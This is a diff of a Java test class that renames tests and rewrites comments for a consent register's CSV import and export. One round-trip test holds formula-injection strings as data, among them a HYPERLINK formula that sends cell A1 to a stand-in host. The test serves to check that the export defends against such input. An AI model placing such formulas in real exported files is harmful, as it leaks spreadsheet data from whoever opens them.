@@ -116,7 +116,7 @@ class ImportsTest {
     }
 
     @Test
-    void takesWhatIsBeforeAQuotationMarkThatIsNeverClosed() {
+    void importsTheLinesBeforeAQuotationMarkThatIsNeverClosed() {
         shop("imp-broken");
         String file = CONSENTS + "+351915000001,imp-broken,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Yes\n"
                 + "+351915000002,imp-broken,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,\"Yes\n";
@@ -129,7 +129,7 @@ class ImportsTest {
         assertThat(consentsOf("imp-broken")).isEqualTo(1);
     }
 
-    /** Saved by a spreadsheet in the code page of Windows: what she read, or nothing. */
+    /** A spreadsheet saved the file in the code page of Windows. The import reads it as it was, or refuses it. */
     @Test
     void readsTheCharsetOfTheRequestAndGuessesAtNothing() {
         shop("imp-page");
@@ -153,7 +153,7 @@ class ImportsTest {
     }
 
     @Test
-    void refusesATextThatWasDamagedBefore() {
+    void refusesATextWithAReplacementCharacter() {
         shop("imp-damage");
         String start = ",imp-damage,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,";
 
@@ -168,9 +168,9 @@ class ImportsTest {
                 .problem(400, "invalid-field", "proof has the character U+FFFD");
     }
 
-    /** Semicolons and what else spreadsheets do: see CsvFileTest. */
+    /** CsvFileTest covers semicolons and the other habits of spreadsheets. */
     @Test
-    void readsAFileOfASpreadsheetAndTellsWhichColumnsItPassedOver() {
+    void readsAFileOfASpreadsheetAndNamesTheColumnsThatItIgnored() {
         shop("imp-excel");
 
         Answer report = office.csv("/consents/import", "sep=;\r\nTO;Business;purpose;channel;type;at;expires;method;proof;Remark;;\r\n"
@@ -181,9 +181,9 @@ class ImportsTest {
         assertThat(proofs("imp-excel")).containsExactly("Yes, please");
     }
 
-    /** What a stranger gave is not a formula in the export, and the import reads it as it was. */
+    /** A text that a stranger gave is no formula in the export. The import reads it back unchanged. */
     @Test
-    void takesBackItsOwnExportUnchanged() {
+    void importsItsOwnExportUnchanged() {
         shop("imp-round");
         List<String> texts = List.of("=HYPERLINK(\"http://x.example?\"&A1,\"click\")", "@SUM(1)", "-2+3", "+1", "'=1", "''+1", "a;=1+1;b",
                 "two\n- lines", "\uFF1D1", "it's, \"so\"", "tab\t=1");
@@ -205,9 +205,11 @@ class ImportsTest {
         assertThat(office.get("/consents/export?business=imp-round").body()).isEqualTo(export);
     }
 
-    /** The customer list of every week brings nobody back, and says whom it would have. */
+    /**
+     * A customer list that comes every week gives no withdrawn consent back. Its report names the consents that it would have given back.
+     */
     @Test
-    void aListStampedLaterGivesNobodyBack() {
+    void aListWithALaterDateGivesNoConsentBack() {
         shop("imp-list");
         String line = "+35191550000%d,imp-list,MARKETING,MESSENGER,GIVEN,%s,,%s,%s,%s,%s\n";
         String header = CONSENTS.strip() + ",place,reference\n";
@@ -242,20 +244,20 @@ class ImportsTest {
                         one -> assertThat(one).startsWith("3 " + told + "proof must be the wording"),
                         one -> assertThat(one).startsWith("4 " + told + "place must say where"),
                         one -> assertThat(one).startsWith("5 " + told + "its evidence is that of an earlier consent"));
-        assertThat(standing("imp-list", 1)).isEqualTo(State.WITHDRAWN);
-        assertThat(standing("imp-list", 2)).isEqualTo(State.WITHDRAWN);
+        assertThat(statusOf("imp-list", 1)).isEqualTo(State.WITHDRAWN);
+        assertThat(statusOf("imp-list", 2)).isEqualTo(State.WITHDRAWN);
 
         String own = line.formatted(1, "2026-06-03T10:00:00Z", "form", "Yes please", "Page 7", "entry 12")
                 + line.formatted(2, "2026-06-03T10:00:00Z", "keyword JA", "Ja", "", "message 78");
         assertReport(office.csv("/consents/import", header + own), 2, 2, 0);
         assertReport(office.csv("/consents/import", header + own), 2, 2, 0);
-        assertThat(standing("imp-list", 1)).isEqualTo(State.GIVEN);
-        assertThat(standing("imp-list", 2)).isEqualTo(State.GIVEN);
+        assertThat(statusOf("imp-list", 1)).isEqualTo(State.GIVEN);
+        assertThat(statusOf("imp-list", 2)).isEqualTo(State.GIVEN);
     }
 
     /** An import gives the same result in one file, one by one, as a record, and written into the register directly. */
     @Test
-    void noOtherWayGivesAnybodyBack() {
+    void noOtherWayOfImportGivesAConsentBack() {
         shop("imp-ways");
         String start = "+351915600001,imp-ways,MARKETING,MESSENGER,";
         Answer file = office.csv("/consents/import",
@@ -271,37 +273,37 @@ class ImportsTest {
         office.post("/consents", person.formatted("CONFIRMED", "double opt-in", "")).problem(400, "invalid-field", "place must say where");
         office.post("/consents", person.formatted("RENEWED", "form", "CRM")).problem(400, "invalid-field", "place must say where");
         office.post("/consents", person.formatted("REQUESTED", "CRM", "")).is(201);
-        assertThat(standing("imp-ways", 1)).isEqualTo(State.WITHDRAWN);
+        assertThat(statusOf("imp-ways", 1)).isEqualTo(State.WITHDRAWN);
 
         RecipientId she = recipient("imp-ways");
         ConsentEvent written = new ConsentEvent(businesses.byHandle("imp-ways").orElseThrow().id(), she, Purpose.MARKETING,
                 ConsentChannel.MESSENGER, ConsentEvent.Type.GIVEN,
                 Instant.parse("2026-07-01T10:00:00Z"), Optional.empty(), Evidence.of("CRM", "Yes"));
         consents.record(List.of(written), Instant.parse("2026-07-02T10:00:00Z"));
-        assertThat(standing("imp-ways", 1)).isEqualTo(State.WITHDRAWN);
+        assertThat(statusOf("imp-ways", 1)).isEqualTo(State.WITHDRAWN);
         String record = office.post("/consents/record", "{'to':'+351915600001'}").is(200).body();
         database.update("DELETE FROM consent WHERE recipient = ?", (Object) she.bytes());
         office.send("POST", "/consents/record/import", "application/json", "{\"to\":\"+351915600001\",\"document\":" + record + "}")
                 .problem(400, "invalid-field", "has the entry GIVEN of 2026-07-01T10:00:00Z for MARKETING. She has ended a consent before");
     }
 
-    /** A stop that comes while the list is read, or after it with an earlier date. */
+    /** The stop comes while the list is read, or it comes later with an earlier date. */
     @Test
     void aStopDuringAnImportWins() {
         shop("imp-race");
         assertReport(office.csv("/consents/import",
                 CONSENTS + "+351915700001,imp-race,MARKETING,MESSENGER,GIVEN,2026-06-01T10:00:00Z,,CRM,Yes\n"), 1, 1, 0);
-        assertThat(standing("imp-race", 1)).isEqualTo(State.GIVEN);
+        assertThat(statusOf("imp-race", 1)).isEqualTo(State.GIVEN);
 
         office.post("/consents",
                 "{'to':'+351915700001','business':'imp-race','purpose':'MARKETING','type':'WITHDRAWN','at':'2026-05-01T10:00:00Z',"
                         + "'method':'letter'}")
                 .is(201);
 
-        assertThat(standing("imp-race", 1)).isEqualTo(State.WITHDRAWN);
+        assertThat(statusOf("imp-race", 1)).isEqualTo(State.WITHDRAWN);
     }
 
-    private State standing(String handle, int who) {
+    private State statusOf(String handle, int who) {
         BusinessId business = businesses.byHandle(handle).orElseThrow().id();
         Map<Consents.Key, ConsentStatus> statuses = consents.statuses(recipients(handle), ConsentChannel.MESSENGER,
                 Instant.parse("2026-10-01T10:00:00Z"));
@@ -322,7 +324,7 @@ class ImportsTest {
     }
 
     @Test
-    void refusesAFileWhoseHeaderIsAnother() {
+    void refusesAFileWithAnotherHeader() {
         office.csv("/consents/import", "to,business\n+351912345678,x\n").problem(400, "invalid-field",
                 "The first line lacks purpose, channel");
         office.csv("/consents/import", "to," + CONSENTS).problem(400, "invalid-field", "each column once");
@@ -332,7 +334,7 @@ class ImportsTest {
     }
 
     @Test
-    void refusesAnotherCurrencyForABusinessThatIsThere() {
+    void refusesAnotherCurrencyForAnExistingBusiness() {
         shop("imp-currency");
 
         Answer report = office.csv("/businesses/import", BUSINESSES + "imp-currency,Shop,ENTERPRISE,USD,Europe/Lisbon,PREPAID,,,\n");
